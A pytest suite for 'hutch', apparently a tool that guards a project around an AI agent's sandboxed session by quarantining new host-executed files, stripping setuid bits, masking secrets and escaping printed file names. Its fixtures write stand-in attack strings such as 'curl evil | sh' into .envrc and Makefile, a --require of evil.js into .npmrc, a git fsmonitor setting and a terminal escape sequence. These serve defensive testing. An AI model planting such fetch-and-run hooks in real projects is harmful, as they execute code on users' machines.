"""Before and after a session, without an engine: the session's writes are
made directly in the project, as the sandbox's would land there."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from hutch import guard
from hutch.guard import quarantine, report
from hutch.guard import tree as t

UID = os.getuid()


def write(path: Path, text: str = "x", mode: int = 0o644) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    write(root / "Makefile", "all:\n\techo hi\n")
    write(root / ".vscode" / "settings.json", '{"a": 1}\n')
    write(root / "src" / "app.py", "print(1)\n")
    write(root / ".env", "TOKEN=1\n")
    write(root / "node_modules" / "x" / "index.js", "module.exports = 1\n")
    time.sleep(t.RACY_NS / 1e9 + 0.02)
    return root


def run(
    project: Path, state: Path, session: str, change: object, surface: str = "ask", ask: object = None
) -> guard.Outcome:
    prepared = guard.prepare(
        project=str(project), uid=UID, mask=(), unmask=(), no_mask=False, state=str(state), session=session
    )
    assert callable(change)
    change()
    return guard.finish(
        project=str(project),
        uid=UID,
        prepared_baseline=prepared.baseline,
        policy=prepared.policy,
        mask=(),
        unmask=(),
        no_mask=False,
        state=str(state),
        session=session,
        git_start=None,
        git_upper=None,
        surface=surface,
        ask=ask,
    )  # type: ignore[arg-type]


def test_prepare_masks_and_pins(project: Path, tmp_path: Path) -> None:
    prepared = guard.prepare(
        project=str(project),
        uid=UID,
        mask=(),
        unmask=(),
        no_mask=False,
        state=str(tmp_path / "state"),
        session="s1",
    )
    assert prepared.masked_files == (".env",)
    assert [b.rel for b in prepared.readonly] == [".vscode"]
    st = os.stat(project / ".vscode")
    assert prepared.readonly[0].pinned == (st.st_dev, st.st_ino)
    assert prepared.root.ino == os.stat(project).st_ino
    # The tree is kept, and a baseline for the session sits beside it.
    assert Path(guard.baseline_path(str(tmp_path / "state"), str(project), "s1")).is_file()


def test_new_host_executed_files_are_set_aside_and_can_be_accepted(project: Path, tmp_path: Path) -> None:
    state = tmp_path / "state"

    def session() -> None:
        write(project / ".envrc", "curl evil | sh\n")
        write(project / "sub" / ".envrc", "evil\n")
        # A renamed parent sidesteps a read-only settings.json: the new one is held.
        os.rename(project / ".vscode", project / "vscode-old")
        write(project / ".vscode" / "settings.json", '{"evil": true}\n')
        write(project / ".vscode" / "tasks.json", '{"runOn": "folderOpen"}\n')

    outcome = run(project, state, "s1", session)
    kinds = {(c.kind, c.path) for c in outcome.changes}
    assert ("surface", ".envrc") in kinds and ("surface", ".vscode/tasks.json") in kinds
    assert not (project / ".envrc").exists() and not (project / "sub" / ".envrc").exists()
    # The host's version is back where it was.
    assert (project / ".vscode" / "settings.json").read_text() == '{"a": 1}\n'
    assert not (project / ".vscode" / "tasks.json").exists()
    held = quarantine.load(str(state), "s1")
    assert held is not None
    assert {i.path for i in held.items} == {
        ".envrc",
        "sub/.envrc",
        ".vscode/settings.json",
        ".vscode/tasks.json",
    }
    done, refused = quarantine.accept(str(state), held, [".envrc", "nope"])
    assert [i.path for i in done] == [".envrc"] and [r.path for r in refused] == ["nope"]
    assert (project / ".envrc").read_text() == "curl evil | sh\n"
    # A file the user changed since is not overwritten.
    write(project / "sub" / ".envrc", "mine\n")
    done, refused = quarantine.accept(str(state), held, ["sub/.envrc"])
    assert not done and refused[0].path == "sub/.envrc"
    assert (project / "sub" / ".envrc").read_text() == "mine\n"


def test_report_mode_leaves_files_in_place(project: Path, tmp_path: Path) -> None:
    outcome = run(project, tmp_path / "state", "s1", lambda: write(project / ".envrc", "x"), surface="report")
    assert ("surface", ".envrc") in {(c.kind, c.path) for c in outcome.changes}
    assert (project / ".envrc").exists()
    assert not outcome.held.items


def test_a_yes_at_the_prompt_keeps_the_change(project: Path, tmp_path: Path) -> None:
    asked: list[str] = []

    def ask(path: str, diff: str) -> bool:
        asked.append(diff)
        return True

    run(project, tmp_path / "state", "s1", lambda: write(project / ".mcp.json", '{"x": 1}\n'), ask=ask)
    assert (project / ".mcp.json").read_text() == '{"x": 1}\n'
    assert '+{"x": 1}' in asked[0]


def test_setuid_bits_are_removed_and_reported(project: Path, tmp_path: Path) -> None:
    deep = project / "node_modules" / "/".join(f"d{i}" for i in range(12)) / "tool"

    def session() -> None:
        write(deep, "#!/bin/sh\n", 0o4755)
        (project / "src" / "app.py").chmod(0o2755)

    outcome = run(project, tmp_path / "state", "s1", session)
    found = {(c.kind, c.path) for c in outcome.changes}
    assert ("setuid", str(deep.relative_to(project))) in found
    assert ("setuid", "src/app.py") not in found  # in place on an unrecorded file: the daily full pass
    assert deep.stat().st_mode & 0o7777 == 0o755


def test_build_files_executables_repos_and_links(project: Path, tmp_path: Path) -> None:
    def session() -> None:
        write(project / "Makefile", "all:\n\tcurl evil | sh\n")
        write(project / "tools" / "run", "#!/bin/sh\n", 0o755)
        write(project / "vendor" / "lib" / ".git" / "config", "[core]\n\tfsmonitor = evil\n")
        (project / "out").symlink_to("/home")
        write(project / ".venv" / "lib" / "site-packages" / "x.pth", "import evil\n")
        (project / "node_modules" / ".bin").mkdir()
        (project / "node_modules" / ".bin" / "x").symlink_to("../x/index.js")

    outcome = run(project, tmp_path / "state", "s1", session)
    found = {(c.kind, c.path) for c in outcome.changes}
    assert {
        ("build", "Makefile"),
        ("executable", "tools/run"),
        ("repo", "vendor/lib/.git"),
        ("surface", "vendor/lib/.git/config"),
        ("link-outside", "out"),
        ("startup", ".venv/lib/site-packages/x.pth"),
        ("startup", "node_modules/.bin/x"),
    } <= found
    # The Makefile stays (the agent edits build files as part of its work).
    assert "evil" in (project / "Makefile").read_text()
    # The nested repository's config is held, as a hook would be.
    assert not (project / "vendor" / "lib" / ".git" / "config").exists()


def test_the_next_session_starts_from_what_the_last_one_left(project: Path, tmp_path: Path) -> None:
    state = tmp_path / "state"
    run(project, state, "s1", lambda: write(project / "tools" / "run", "#!/bin/sh\n", 0o755))
    time.sleep(t.RACY_NS / 1e9 + 0.02)
    outcome = run(project, state, "s2", lambda: None)
    assert outcome.changes == []


def test_names_are_escaped_when_printed() -> None:
    change = report.Change("surface", "a\x1b]52;c;ZXZpbA==\x07b\nc", "new file")
    text = report.format_changes([change])
    assert "\x1b" not in text and "\x07" not in text and "\n" not in text.strip("\n")
    assert "\\x1b]52;c;ZXZpbA==\\x07b\\nc" in text
    assert report.display("ok\u202eevil") == "ok\\u202eevil"
    assert report.display("bad\udcff") == "bad\\xff"


def test_a_masked_path_is_not_also_bound_read_only(project: Path, tmp_path: Path) -> None:
    # A mask is itself read-only; a second mount on the same target makes the
    # engine refuse the container ("duplicate mount point").
    write(project / ".mcp.json", '{"servers": {}, "oauth": {"client_secret": "s3cret"}}\n')
    write(project / ".claude" / "settings.json", "{}\n")
    write(project / ".npmrc", "//registry.npmjs.org/:_authToken=x\n")
    prepared = guard.prepare(
        project=str(project),
        uid=UID,
        mask=(".claude/",),
        unmask=(),
        no_mask=False,
        state=str(tmp_path / "state"),
        session="s1",
    )
    assert set(prepared.masked_files) == {".env", ".mcp.json", ".npmrc"}
    assert prepared.masked_dirs == (".claude",)
    assert [b.rel for b in prepared.readonly] == [".vscode"]
    # hutch keeps copies of host-executed files to show and undo changes, but
    # never of a secret's content.
    kept = [p.read_bytes() for p in (tmp_path / "state").rglob("*") if p.is_file()]
    assert any(b"echo hi" in k for k in kept)  # the Makefile: copies are kept
    assert not any(b"_authToken" in k or b"s3cret" in k for k in kept)


def test_a_new_host_executed_file_is_held_even_when_it_looks_like_a_secret(
    project: Path, tmp_path: Path
) -> None:
    state = tmp_path / "state"

    def session() -> None:
        write(project / ".npmrc", "node-options=--require ./evil.js\n")
        write(project / "sub" / ".envrc", "# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n")

    outcome = run(project, state, "s1", session)
    assert {("surface", ".npmrc"), ("surface", "sub/.envrc")} <= {(c.kind, c.path) for c in outcome.changes}
    assert not (project / ".npmrc").exists() and not (project / "sub" / ".envrc").exists()
    held = quarantine.load(str(state), "s1")
    assert held is not None and {i.path for i in held.items} == {".npmrc", "sub/.envrc"}


def test_a_quick_start_plans_from_the_last_walk_and_checks_it(project: Path, tmp_path: Path) -> None:
    state = str(tmp_path / "state")

    def start(session: str) -> guard.Prepared:
        return guard.prepare(project=str(project), uid=UID, mask=(), unmask=(), no_mask=False, state=state,
                             session=session, quick=True)  # fmt: skip

    first = start("s1")
    assert first.pending is None and first.baseline is not None  # nothing to start from yet
    quick = start("s2")
    assert quick.pending is not None and quick.masked_files == (".env",)
    assert quick.pending.wait() is not None and not quick.pending.stale
    # A secret added since: the quick plan misses it, and the walk says so.
    write(project / "deep" / "id_rsa", "key")
    time.sleep(t.RACY_NS / 1e9 + 0.02)
    missed = start("s3")
    assert missed.pending is not None and missed.masked_files == (".env",)
    missed.pending.wait()
    assert missed.pending.stale
    # The walk saved what it found: the next quick start has it.
    assert start("s4").masked_files == (".env", "deep/id_rsa")


def test_a_quick_start_never_plans_a_mask_onto_a_path_that_went_away(project: Path, tmp_path: Path) -> None:
    state = str(tmp_path / "state")
    guard.prepare(project=str(project), uid=UID, mask=(), unmask=(), no_mask=False, state=state, session="s1")
    (project / ".env").unlink()
    again = guard.prepare(project=str(project), uid=UID, mask=(), unmask=(), no_mask=False, state=state,
                          session="s2", quick=True)  # fmt: skip
    assert again.pending is None and again.masked_files == ()


def test_the_projects_own_hooks_path_is_host_executed(project: Path, tmp_path: Path) -> None:
    write(project / ".git" / "HEAD", "ref: refs/heads/main\n")
    write(project / ".git" / "config", "[core]\n\thooksPath = .githooks\n")
    write(project / ".githooks" / "pre-commit", "#!/bin/sh\n", 0o755)
    time.sleep(t.RACY_NS / 1e9 + 0.02)
    prepared = guard.prepare(project=str(project), uid=UID, mask=(), unmask=(), no_mask=False,
                             state=str(tmp_path / "s"), session="s0")  # fmt: skip
    assert ".githooks" in [b.rel for b in prepared.readonly]
    hook = project / ".githooks" / "post-checkout"
    outcome = run(project, tmp_path / "state", "s1", lambda: write(hook, "x"))
    assert ("surface", ".githooks/post-checkout") in {(c.kind, c.path) for c in outcome.changes}
    assert not (project / ".githooks" / "post-checkout").exists()


def test_setting_aside_never_follows_a_link_swapped_in_for_a_directory(project: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    write(outside / ".envrc", "the user's own, elsewhere\n")
    state = str(tmp_path / "state")
    held = quarantine.new_held("s1", str(project))
    write(project / "sub" / ".envrc", "evil\n")
    # Another session swaps the directory for a link to elsewhere before hutch acts.
    (project / "sub").rename(project / "sub-real")
    (project / "sub").symlink_to(outside)
    aside = quarantine.set_aside(state, held, str(project), "sub/.envrc", "new", "", str(tmp_path / "b"))
    assert aside is None
    assert (outside / ".envrc").read_text() == "the user's own, elsewhere\n"
    # And putting back a held file does not follow one either.
    (project / "sub").unlink()
    (project / "sub-real").rename(project / "sub")
    item = quarantine.set_aside(state, held, str(project), "sub/.envrc", "new", "", str(tmp_path / "b"))
    assert item is not None and not (project / "sub" / ".envrc").exists()
    (project / "sub").rename(project / "sub-real")
    (project / "sub").symlink_to(outside)
    (outside / ".envrc").unlink()
    done, refused = quarantine.accept(state, held, ["sub/.envrc"])
    assert not done and refused and not (outside / ".envrc").exists()


def test_a_file_with_no_room_to_be_set_aside_leaves_the_project_and_cannot_be_accepted(
    project: Path, tmp_path: Path
) -> None:
    state = tmp_path / "state"
    state.mkdir()
    held = quarantine.new_held("s1", str(project))
    write(project / ".envrc", "curl evil | sh\n")
    # Where the quarantine's files would go, a file: every copy there fails.
    blocker = Path(quarantine.root(str(state)))
    blocker.write_text("in the way\n")
    item = quarantine.set_aside(str(state), held, str(project), ".envrc", "new", "", str(tmp_path / "b"))
    assert item is not None and not item.kept
    assert not (project / ".envrc").exists()
    blocker.unlink()  # room again, later: still nothing to accept
    done, refused = quarantine.accept(str(state), held, [".envrc"])
    assert done == [] and [r.path for r in refused] == [".envrc"]
    assert not (project / ".envrc").exists()
